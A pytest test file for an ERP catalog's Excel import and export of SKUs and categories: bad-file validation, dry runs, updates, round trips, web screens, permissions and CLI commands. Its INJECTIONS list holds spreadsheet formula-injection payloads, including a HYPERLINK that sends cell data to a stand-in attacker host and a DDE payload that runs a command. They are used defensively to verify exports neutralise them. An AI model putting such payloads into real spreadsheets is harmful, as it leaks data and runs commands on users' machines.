"""Catalog sheets: SKU and category imports, exports, the import screens and the CLI.

Imports: a corpus of bad files, dry run, create, update, round trip. Exports: filters, formula
injection, non-ASCII text.
"""

from __future__ import annotations

import dataclasses
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from sqlalchemy import select

from erp.catalog import services
from erp.catalog.excel import (
    CATEGORY_SPEC,
    SKU_SPEC,
    export_categories,
    export_skus,
    import_categories,
    import_skus,
)
from erp.catalog.models import Category, Product, Sku, SkuStatus
from erp.catalog.queries import SkuFilters
from erp.core import audit, excel
from erp.core.models import AuditEvent
from erp.extensions import db

SKU_HEADERS = [str(column.header) for column in SKU_SPEC.columns]
CATEGORY_HEADERS = [str(column.header) for column in CATEGORY_SPEC.columns]
INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
              "-2+3", "@SUM(A1)"]


def xlsx(rows: list[list], title: str = "SKUs") -> bytes:
    """Build an .xlsx upload with openpyxl from rows of cell values (the first is the header)."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def sku_row(code: str = "TEE-RED-M", **values) -> list:
    """Return one SKU sheet row (in SKU_HEADERS order): sensible values with overrides."""
    row = {"sku_code": code, "product_code": "TEE", "product_name": "Organic cotton tee",
           "brand_code": "LUMA", "category_code": "APP-TEE", "barcode": None,
           "colour": "Red", "size": "M", "weight_g": 180, "length_mm": 300, "width_mm": 200,
           "height_mm": 20, "hs_code": "6109.10.00", "customs_description": "Cotton T-shirt",
           "origin_country": "China", "declared_value": 4.5, "declared_currency": "usd",
           "list_price": 19.9, "list_currency": "EUR", "reorder_point": 5, "reorder_qty": 50,
           "status": "active", "description": "Soft organic cotton."}
    row.update(values)
    return [row.get(column.key) for column in SKU_SPEC.columns]


def sku_sheet(*rows: list, headers: list[str] | None = None) -> bytes:
    """Return an .xlsx SKU sheet with the template's headers and ``rows``."""
    return xlsx([headers or SKU_HEADERS, *rows])


def run(data: bytes, *, dry_run: bool = False, **kwargs) -> excel.ImportResult:
    return import_skus(data, filename="skus.xlsx", dry_run=dry_run, actor=None, **kwargs)


def errors_of(result: excel.ImportResult) -> list[tuple[int, str, str]]:
    return [(error.row, error.column, error.message) for error in result.errors]


def events(action: str) -> list[AuditEvent]:
    return db.session.scalars(select(AuditEvent).where(AuditEvent.action == action)
                              .order_by(AuditEvent.id)).all()


def sku(code: str) -> Sku:
    return db.session.scalar(select(Sku).where(Sku.code == code))


# --- the corpus of bad files: every error has its row and column, and nothing is written -------

BAD_SHEETS = {
    "wrong type": (sku_sheet(sku_row(weight_g="abc")), 2, "Weight (g)", "whole number"),
    "negative weight": (sku_sheet(sku_row(weight_g=-5)), 2, "Weight (g)", "between 0 and"),
    "bad HS code": (sku_sheet(sku_row(), sku_row("TEE-RED-L", hs_code="61.09")), 3, "HS code",
                    "not an HS code"),
    "HS code with letters": (sku_sheet(sku_row(hs_code="6109ABCD")), 2, "HS code",
                             "6 to 10 digits"),
    "unknown country": (sku_sheet(sku_row(origin_country="Atlantis")), 2, "Origin country",
                        "not a country"),
    "unknown currency": (sku_sheet(sku_row(list_currency="EURO")), 2, "List currency",
                         "ISO 4217"),
    "amount without currency": (sku_sheet(sku_row(declared_currency=None)), 2,
                                "Declared currency", "needs a currency"),
    "bad status": (sku_sheet(sku_row(status="sold out")), 2, "Status", "must be one of"),
    "bad barcode check digit": (sku_sheet(sku_row(barcode="4006381333932")), 2, "Barcode",
                                "check digit"),
    "bad SKU code": (sku_sheet(sku_row("TEE RED M")), 2, "SKU code", "SKU code must be"),
    "missing required cell": (sku_sheet(sku_row(product_name=None)), 2, "Product name",
                              "required"),
    "duplicate SKU in the file": (sku_sheet(sku_row(), sku_row("tee-red-m")), 3, "SKU code",
                                  "also in row 2"),
    "duplicate barcode in the file": (
        sku_sheet(sku_row(barcode="4006381333931"), sku_row("TEE-RED-L", barcode="4006381333931")),
        3, "Barcode", "also in row 2"),
    "unknown brand": (sku_sheet(sku_row(brand_code="NOPE")), 2, "Brand code",
                      'no brand has the code "NOPE"'),
    "unknown category": (sku_sheet(sku_row(category_code="SHOES")), 2, "Category code",
                         'no category has the code "SHOES"'),
    "product name differs between rows": (
        sku_sheet(sku_row(), sku_row("TEE-RED-L", product_name="Other tee")), 3,
        "Product name", 'has the name "Organic cotton tee" in row 2 but "Other tee" here'),
    "product category differs between rows": (
        sku_sheet(sku_row(), sku_row("TEE-RED-L", category_code="HOME")), 3, "Category code",
        "in row 2"),
    "missing required columns": (
        sku_sheet(sku_row()[:3], headers=SKU_HEADERS[:3]), 1, "",
        'missing required columns: "Brand code", "Category code"'),
    "header only": (sku_sheet(), 1, "", "no data rows"),
    "empty file": (b"", 0, "", "empty"),
    "not a workbook": (b"code,name\nA,B\n" * 3 + b"\x00\x01binary", 0, "", "upload.xlsx"),
    "a PNG named .xlsx": (b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, 0, "", "PNG"),
}


@pytest.mark.parametrize("case", list(BAD_SHEETS))
def test_import_skus_bad_file_shows_row_column_reason_and_writes_nothing(
        catalog_codes, catalog_counts, case):
    data, row, column, message = BAD_SHEETS[case]
    before = catalog_counts()
    result = import_skus(data, filename="upload.xlsx", dry_run=False, actor=None)
    assert not result.ok
    assert result.created == result.updated == 0
    assert any(e.row == row and e.column == column and message in e.message
               for e in result.errors), errors_of(result)
    assert catalog_counts() == before
    db.session.rollback()
    assert catalog_counts() == before


def test_import_skus_reports_every_bad_cell_not_just_the_first(catalog_codes):
    result = run(sku_sheet(sku_row(weight_g="abc", hs_code="12", origin_country="Atlantis"),
                           sku_row("TEE-RED-L", list_currency="XX")))
    assert {(row, column) for row, column, _ in errors_of(result)} == {
        (2, "Weight (g)"), (2, "HS code"), (2, "Origin country"), (3, "List currency")}
    assert str(result.errors[0]).startswith('Row 2, column "')


def test_import_skus_over_the_row_limit_is_refused(catalog_codes, catalog_counts):
    before = catalog_counts()
    small = dataclasses.replace(SKU_SPEC, max_rows=3)
    data = sku_sheet(*(sku_row(f"TEE-{i}") for i in range(4)))
    result = run(data, spec=small)
    assert errors_of(result) == [(0, "", "the file has more than 3 data rows; split it into "
                                         "smaller files")]
    assert catalog_counts() == before
    assert run(sku_sheet(*(sku_row(f"TEE-{i}") for i in range(3))), spec=small).ok


def test_import_skus_barcode_of_another_sku_in_the_database_is_refused(catalog_codes,
                                                                       catalog_counts):
    assert run(sku_sheet(sku_row("OLD-1", product_code="OLD", barcode="4006381333931"))).ok
    db.session.commit()
    before = catalog_counts()
    result = run(sku_sheet(sku_row(barcode="4006381333931")))
    assert errors_of(result) == [(2, "Barcode", "barcode 4006381333931 belongs to SKU OLD-1: a "
                                                "barcode identifies one SKU (remove it from "
                                                "that SKU first)")]
    assert catalog_counts() == before


def test_import_skus_cannot_move_a_sku_to_another_product(catalog_codes):
    assert run(sku_sheet(sku_row())).ok
    db.session.commit()
    result = run(sku_sheet(sku_row(product_code="OTHER")))
    assert errors_of(result) == [(2, "Product code", "SKU TEE-RED-M belongs to product TEE; a "
                                                     "SKU cannot move to another product")]


def test_import_skus_failure_while_writing_leaves_nothing(catalog_codes, catalog_counts,
                                                          monkeypatch):
    before = catalog_counts()
    real = audit.record_many

    def fail_on_skus(entity_type, action, rows, *, actor):
        real(entity_type, action, rows, actor=actor)
        if action == "sku.created":  # after products and SKUs were inserted
            raise excel.RowError("disk full", row=2)

    monkeypatch.setattr(audit, "record_many", fail_on_skus)
    result = run(sku_sheet(sku_row(), sku_row("TEE-RED-L")))
    assert errors_of(result) == [(2, "", "disk full")]
    assert catalog_counts() == before  # the savepoint was rolled back


# --- dry run, create, update ------------------------------------------------------------------

def test_import_skus_dry_run_writes_nothing(catalog_codes, catalog_counts):
    before = catalog_counts()
    result = run(sku_sheet(sku_row(), sku_row("TEE-RED-L", size="L")), dry_run=True)
    assert result.ok
    assert result.dry_run
    assert result.created == 0
    assert "2 new SKUs, 0 existing SKUs" in " ".join(result.messages)
    assert catalog_counts() == before


def test_import_skus_creates_products_and_skus_with_normalised_values(catalog_codes):
    result = run(sku_sheet(
        sku_row(barcode="4006381333931"),
        sku_row("TEE-RED-L", size="L", weight_g="195", hs_code=None, origin_country="vn",
                status="Discontinued", barcode=None),
        sku_row("MUG-1", product_code="MUG", product_name="纯棉T恤", brand_code="nord",
                category_code="home", description=None, declared_value=None, hs_code=None,
                declared_currency=None, list_price="12.5", list_currency="gbp"),
    ))
    assert (result.ok, result.created, result.updated) == (True, 3, 0), errors_of(result)
    db.session.commit()
    tee = sku("TEE-RED-M")
    assert tee.product.code == "TEE"
    assert tee.product.brand.code == "LUMA"
    assert tee.product.category.code == "APP-TEE"
    assert tee.product.description == "Soft organic cotton."
    assert (tee.hs_code, tee.origin_country, tee.declared_currency) == ("61091000", "CN", "USD")
    assert (tee.declared_value, tee.list_price) == (Decimal("4.5"), Decimal("19.9"))
    assert (tee.barcode, tee.barcode_kind) == ("4006381333931", "ean13")
    large = sku("TEE-RED-L")
    assert (large.weight_g, large.hs_code, large.origin_country) == (195, None, "VN")
    assert large.status == SkuStatus.discontinued
    assert large.product_id == tee.product_id
    mug = sku("MUG-1")
    assert (mug.product.name, mug.product.brand.code, mug.list_currency) == ("纯棉T恤", "NORD",
                                                                            "GBP")
    assert services.effective_customs(mug)["hs_code"].source == "missing"

    assert len(events("sku.created")) == 3
    assert events("sku.created")[0].changes["hs_code"] == [None, "61091000"]
    assert events("sku.created")[0].entity_ref == "TEE-RED-M"
    assert [e.entity_ref for e in events("product.created")] == ["TEE", "MUG"]
    summary = events("sku.imported")
    assert len(summary) == 1
    assert summary[0].entity_ref == "skus.xlsx"
    assert summary[0].changes == {"filename": "skus.xlsx", "rows": 3, "created": 3, "updated": 0,
                                  "unchanged": 0, "products_created": 2, "products_updated": 0}


def test_import_skus_second_import_updates_and_keeps_empty_cells(catalog_codes):
    assert run(sku_sheet(sku_row(), sku_row("TEE-RED-L", size="L"))).ok
    db.session.commit()
    result = run(sku_sheet(
        sku_row(weight_g=200, colour=None, product_name="Organic cotton tee v2"),
        sku_row("TEE-RED-L", size="L", colour=None, product_name="Organic cotton tee v2"),
        sku_row("TEE-RED-S", size="S", colour=None, product_name="Organic cotton tee v2"),
    ))
    assert (result.ok, result.created, result.updated, result.skipped) == (True, 1, 1, 1)
    db.session.commit()
    assert sku("TEE-RED-M").weight_g == 200
    assert sku("TEE-RED-M").colour == "Red"  # an empty cell keeps the value
    assert sku("TEE-RED-S").colour is None
    assert sku("TEE-RED-M").product.name == "Organic cotton tee v2"
    updated = events("sku.updated")
    assert [(e.entity_ref, e.changes) for e in updated] == [("TEE-RED-M",
                                                             {"weight_g": [180, 200]})]
    assert events("product.updated")[0].changes == {
        "name": ["Organic cotton tee", "Organic cotton tee v2"]}
    assert events("sku.imported")[-1].changes["updated"] == 1


def test_import_skus_moves_a_product_to_another_brand_and_category(catalog_codes):
    assert run(sku_sheet(sku_row())).ok
    result = run(sku_sheet(sku_row(brand_code="NORD", category_code="HOME")))
    assert result.ok, errors_of(result)
    product = sku("TEE-RED-M").product
    db.session.refresh(product)
    assert (product.brand.code, product.category.code) == ("NORD", "HOME")
    assert events("product.updated")[0].changes == {"brand": ["LUMA", "NORD"],
                                                    "category": ["APP-TEE", "HOME"]}


# --- exports: round trip, filters, injection, non-ASCII text ----------------------------------

@pytest.fixture
def some_skus(catalog_codes, create_sku):
    """Create SKUs through the services with every kind of value."""
    from erp.brands.services import get_brand_by_code

    apparel = db.session.scalar(select(Category).where(Category.code == "APP-TEE"))
    home = db.session.scalar(select(Category).where(Category.code == "HOME"))
    tee = services.create_product(code="TEE", name="纯棉T恤", brand=get_brand_by_code("LUMA"),
                                  category=apparel, description="Ünïcödé — 描述", actor=None)
    mug = services.create_product(code="MUG", name="Ceramic mug", brand=get_brand_by_code("NORD"),
                                  category=home, actor=None)
    create_sku("TEE-RED-M", product=tee, barcode="4006381333931", colour="Red", size="M",
               weight_g=180, length_mm=300, width_mm=200, height_mm=20, hs_code="6109.10.00",
               customs_description="Cotton T-shirt", origin_country="CN",
               declared_value="4.1234", declared_currency="USD", list_price="19.90",
               list_currency="EUR", reorder_point=5, reorder_qty=50)
    create_sku("TEE-RED-L", product=tee, colour="Red", size="L", weight_g=0,
               status="discontinued")
    create_sku("MUG-1", product=mug, barcode="036000291452", weight_g=350,
               list_price="99999999.9999", list_currency="JPY")
    db.session.commit()


def _stored(code: str) -> dict:
    row = sku(code)
    return {key: getattr(row, key) for key in (*services.SKU_FIELDS, "barcode_kind")} | {
        "product": (row.product.code, row.product.name, row.product.brand_id,
                    row.product.category_id, row.product.description)}


def test_export_then_import_skus_changes_nothing(some_skus, catalog_counts):
    before_values = {code: _stored(code) for code in ("TEE-RED-M", "TEE-RED-L", "MUG-1")}
    data = export_skus()
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.active
    header = [cell.value for cell in sheet[1]]
    assert header == SKU_HEADERS
    tee = dict(zip(header, [cell.value for cell in sheet[4]], strict=True))  # TEE-RED-M
    assert tee["HS code"] == "61091000"  # digits, as text
    assert tee["Declared value"] == pytest.approx(4.1234)
    assert tee["Product name"] == "纯棉T恤"

    before = catalog_counts()
    result = run(data)
    assert (result.ok, result.created, result.updated, result.skipped) == (True, 0, 0, 3), \
        errors_of(result)
    db.session.commit()
    db.session.expire_all()
    assert events("sku.updated") == []
    assert events("product.updated") == []
    assert {code: _stored(code) for code in before_values} == before_values
    after = catalog_counts()
    assert after["audit_event"] == before["audit_event"] + 1  # the sku.imported summary only
    assert {k: v for k, v in after.items() if k != "audit_event"} == {
        k: v for k, v in before.items() if k != "audit_event"}


def test_export_skus_applies_the_list_filters(some_skus):
    nord = db.session.scalar(select(Product.brand_id).where(Product.code == "MUG"))

    def codes(filters):
        sheet = openpyxl.load_workbook(io.BytesIO(export_skus(filters))).active
        return [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]

    assert codes(SkuFilters()) == ["MUG-1", "TEE-RED-L", "TEE-RED-M"]
    assert codes(SkuFilters(brand_id=nord)) == ["MUG-1"]
    assert codes(SkuFilters(status="discontinued")) == ["TEE-RED-L"]
    assert codes(SkuFilters(q="纯棉")) == ["TEE-RED-L", "TEE-RED-M"]
    assert codes(SkuFilters(q="nothing-like-this")) == []


def test_every_export_writes_formula_like_text_as_text(catalog_codes, create_sku):
    from erp.brands.services import get_brand_by_code

    category = services.create_category(code="EVIL", name=INJECTIONS[0], actor=None,
                                        customs_description=INJECTIONS[3])
    for i, text in enumerate(INJECTIONS):
        product = services.create_product(code=f"P{i}", name=text, description=text,
                                          brand=get_brand_by_code("LUMA"), category=category,
                                          actor=None)
        create_sku(f"SKU-{i}", product=product, colour=text[:60], size=text[:30])
    db.session.commit()

    exports = ((export_skus(), ("Product name", "Colour", "Size", "Description"), 16),
               (export_categories(), ("Name", "Customs description"), 2))
    for data, columns, expected in exports:
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        header = [cell.value for cell in sheet[1]]
        seen = 0
        for row in sheet.iter_rows(min_row=2):
            assert all(cell.data_type != "f" for cell in row)  # never a formula
            for name in columns:
                cell = row[header.index(name)]
                if str(cell.value or "").lstrip("'")[:1] in ("=", "+", "-", "@"):
                    assert cell.data_type == "s"  # text, and neutralised
                    assert str(cell.value).lstrip("'") in [text[:60] for text in INJECTIONS] + [
                        text[:30] for text in INJECTIONS]
                    seen += 1
        assert seen == expected

    # and the text comes back as it was
    assert run(export_skus()).skipped == len(INJECTIONS)
    db.session.commit()
    names = db.session.scalars(select(Product.name).order_by(Product.code)).all()
    assert names == INJECTIONS
    assert import_categories(export_categories(), dry_run=False, actor=None).skipped == 4


def test_import_skus_template_has_every_column(app):
    sheet = openpyxl.load_workbook(io.BytesIO(excel.template_workbook(SKU_SPEC))).active
    assert [cell.value for cell in sheet[1]] == SKU_HEADERS


# --- categories -------------------------------------------------------------------------------

def run_categories(*rows: list, headers: list[str] | None = None, dry_run: bool = False):
    return import_categories(xlsx([headers or CATEGORY_HEADERS, *rows], title="Categories"),
                             filename="categories.xlsx", dry_run=dry_run, actor=None)


def test_import_categories_parents_may_come_after_children(app):
    result = run_categories(["APP-TEE-V", "V-necks", "APP-TEE", None, None, None],
                            ["APP-TEE", "T-shirts", "APP", "6109.10", "Cotton T-shirts", None],
                            ["APP", "Apparel", None, None, None, "china"])
    assert (result.ok, result.created) == (True, 3), errors_of(result)
    db.session.commit()
    leaf = db.session.scalar(select(Category).where(Category.code == "APP-TEE-V"))
    assert leaf.full_name == "Apparel / T-shirts / V-necks"
    assert leaf.depth == 2
    tees = leaf.parent
    assert (tees.hs_code, tees.parent.origin_country) == ("610910", "CN")
    assert len(events("category.created")) == 3


def test_import_categories_updates_moves_and_round_trips(catalog_codes):
    result = run_categories(["APP-TEE", "Tees", "HOME", None, None, "VN"],
                            ["APP", "Apparel", None, None, None, None],
                            ["HOME", "Home", None, None, None, None])
    assert (result.ok, result.created, result.updated, result.skipped) == (True, 0, 1, 2)
    db.session.commit()
    tees = db.session.scalar(select(Category).where(Category.code == "APP-TEE"))
    assert (tees.full_name, tees.origin_country) == ("Home / Tees", "VN")
    assert tees.hs_code is None  # moved away from APP's default, none of its own
    assert [e.action for e in events("category.moved")] == ["category.moved"]

    moved_before = len(events("category.moved"))
    again = import_categories(export_categories(), dry_run=False, actor=None)
    assert (again.ok, again.updated, again.skipped) == (True, 0, 3)
    assert len(events("category.updated")) == 1
    assert len(events("category.moved")) == moved_before


def test_import_categories_without_parent_column_leaves_the_tree_alone(catalog_codes):
    result = run_categories(["APP-TEE", "Tees"], headers=["Code", "Name"])
    assert (result.ok, result.updated) == (True, 1)
    tees = db.session.scalar(select(Category).where(Category.code == "APP-TEE"))
    assert tees.full_name == "Apparel / Tees"


@pytest.mark.parametrize(("rows", "expected"), [
    ([["A", "A", "B"], ["B", "B", "A"]],
     [(2, "Parent code", "this would put A under its own subtree (A → B → A)"),
      (3, "Parent code", "this would put B under its own subtree (B → A → B)")]),
    ([["A", "A", "A"]], [(2, "Parent code", "a category cannot be its own parent")]),
    ([["A", "A", "NOPE"]], [(2, "Parent code", 'no category has the code "NOPE"')]),
    ([["APP", "Apparel", "APP-TEE"]],
     [(2, "Parent code", "this would put APP under its own subtree (APP → APP-TEE → APP)")]),
    ([["A", "A", None, "61.09"]], [(2, "HS code", "not an HS code")]),
    ([["A", None]], [(2, "Name", "required")]),
    ([["A", "A"], ["a", "B"]], [(3, "Code", "also in row 2")]),
])
def test_import_categories_refuses_loops_and_unknown_parents(catalog_codes, catalog_counts,
                                                             rows, expected):
    before = catalog_counts()
    result = run_categories(*([*row, *[None] * (6 - len(row))] for row in rows))
    found = errors_of(result)
    assert len(found) == len(expected), found
    for (row, column, message), (erow, ecolumn, emessage) in zip(found, expected, strict=True):
        assert (row, column) == (erow, ecolumn)
        assert emessage in message
    assert catalog_counts() == before


# --- screens ----------------------------------------------------------------------------------

@pytest.fixture
def purchasing(login_as):
    return login_as("purchasing")


def _upload(client, url: str, data: bytes, action: str, filename: str = "skus.xlsx"):
    return client.post(url, data={"file": (io.BytesIO(data), filename), "action": action},
                       content_type="multipart/form-data")


def test_import_skus_screen_dry_run_then_error_report_then_import(client, purchasing,
                                                                  catalog_codes, catalog_counts):
    page = client.get("/catalog/skus/import")
    assert page.status_code == 200
    assert "/catalog/skus/import/template.xlsx" in page.get_data(as_text=True)
    template = client.get("/catalog/skus/import/template.xlsx")
    assert template.status_code == 200
    assert openpyxl.load_workbook(io.BytesIO(template.data)).active["A1"].value == "SKU code"

    before = catalog_counts()
    bad = sku_sheet(sku_row(), sku_row("TEE-RED-L", weight_g="abc"))
    response = _upload(client, "/catalog/skus/import", bad, "dry_run")
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "1 error in skus.xlsx" in html
    assert "Weight (g)" in html
    assert "must be a whole number" in html
    assert catalog_counts() == before

    link = re.search(r'href="(/catalog/skus/import/errors/[^"]+\.xlsx)"', html).group(1)
    report = client.get(link)
    assert report.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(report.data)).active
    weight = SKU_HEADERS.index("Weight (g)") + 1
    assert sheet.cell(row=3, column=weight).fill.start_color.rgb.endswith("FFC7CE")
    assert sheet.cell(row=2, column=weight).fill.fill_type is None
    errors_column = len(SKU_HEADERS) + 1
    assert sheet.cell(row=1, column=errors_column).value.startswith("Errors")
    assert "whole number" in sheet.cell(row=3, column=errors_column).value

    response = _upload(client, "/catalog/skus/import", bad, "import")
    assert "1 error in skus.xlsx" in response.get_data(as_text=True)
    assert catalog_counts() == before

    good = sku_sheet(sku_row(), sku_row("TEE-RED-L", size="L"))
    response = _upload(client, "/catalog/skus/import", good, "dry_run")
    assert "No errors in skus.xlsx" in response.get_data(as_text=True)
    assert catalog_counts() == before
    response = _upload(client, "/catalog/skus/import", good, "import")
    assert response.status_code == 302
    assert response.headers["Location"].endswith("/catalog/skus")
    db.session.expire_all()
    assert catalog_counts()["sku"] == 2
    assert events("sku.imported")[0].actor.username == "purchasing"


def test_export_skus_screen_applies_the_filters(client, purchasing, some_skus):
    response = client.get("/catalog/skus/export.xlsx?status=discontinued")
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["TEE-RED-L"]


def test_category_screens_export_and_import(client, purchasing, catalog_codes):
    exported = client.get("/catalog/categories/export.xlsx")
    assert exported.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(exported.data)).active
    assert [row[:3] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        ("APP", "Apparel", None), ("APP-TEE", "T-shirts", "APP"), ("HOME", "Home", None)]
    assert client.get("/catalog/categories/import").status_code == 200
    assert client.get("/catalog/categories/import/template.xlsx").status_code == 200
    data = xlsx([CATEGORY_HEADERS, ["BAGS", "Bags", "HOME", None, None, None]],
                title="Categories")
    response = _upload(client, "/catalog/categories/import", data, "import", "cats.xlsx")
    assert response.status_code == 302
    assert db.session.scalar(select(Category.full_name).where(Category.code == "BAGS")) == \
        "Home / Bags"


def test_warehouse_staff_may_export_but_not_import(client, login_as, catalog_codes):
    login_as("warehouse")
    assert client.get("/catalog/skus/export.xlsx").status_code == 200
    assert client.get("/catalog/skus/import").status_code == 403
    response = _upload(client, "/catalog/skus/import", sku_sheet(sku_row()), "import")
    assert response.status_code == 403


# --- command line -----------------------------------------------------------------------------

def test_cli_import_skus_dry_run_then_import(runner, catalog_codes, catalog_counts, tmp_path):
    path = tmp_path / "skus.xlsx"
    path.write_bytes(sku_sheet(sku_row(), sku_row("TEE-RED-L", size="L")))
    before = catalog_counts()
    result = runner.invoke(args=["import", "skus", str(path), "--dry-run"])
    assert result.exit_code == 0, result.output
    assert "no errors; nothing was written" in result.output
    assert catalog_counts() == before
    result = runner.invoke(args=["import", "skus", str(path)])
    assert result.exit_code == 0, result.output
    assert "2 created, 0 updated, 0 unchanged" in result.output
    db.session.expire_all()
    assert catalog_counts()["sku"] == 2


def test_cli_import_skus_with_errors_exits_1_and_writes_nothing(runner, catalog_codes,
                                                                 catalog_counts, tmp_path):
    path = tmp_path / "skus.xlsx"
    path.write_bytes(sku_sheet(sku_row(), sku_row("TEE-RED-L", weight_g="abc"),
                               sku_row("TEE-RED-S", product_code="X", brand_code="NOPE")))
    before = catalog_counts()
    result = runner.invoke(args=["import", "skus", str(path)])
    assert result.exit_code == 1
    assert 'Row 3, column "Weight (g)": must be a whole number' in result.output
    assert 'Row 4, column "Brand code": no brand has the code "NOPE"' in result.output
    assert "2 error(s)" in result.output
    assert catalog_counts() == before

    path.write_bytes(b"not a workbook at all")
    result = runner.invoke(args=["import", "skus", str(path)])
    assert result.exit_code == 1
    assert result.output.startswith("File: ")
    assert catalog_counts() == before


def test_cli_export_skus_with_filters(runner, some_skus, tmp_path):
    path = tmp_path / "out.xlsx"
    result = runner.invoke(args=["export", "skus", str(path), "--brand", "luma",
                                 "--status", "active"])
    assert result.exit_code == 0, result.output
    assert "1 SKU(s) written" in result.output
    sheet = openpyxl.load_workbook(path).active
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["TEE-RED-M"]
    result = runner.invoke(args=["export", "skus", str(path), "--brand", "NOPE"])
    assert result.exit_code == 1
    assert "No brand has the code 'NOPE'" in result.output
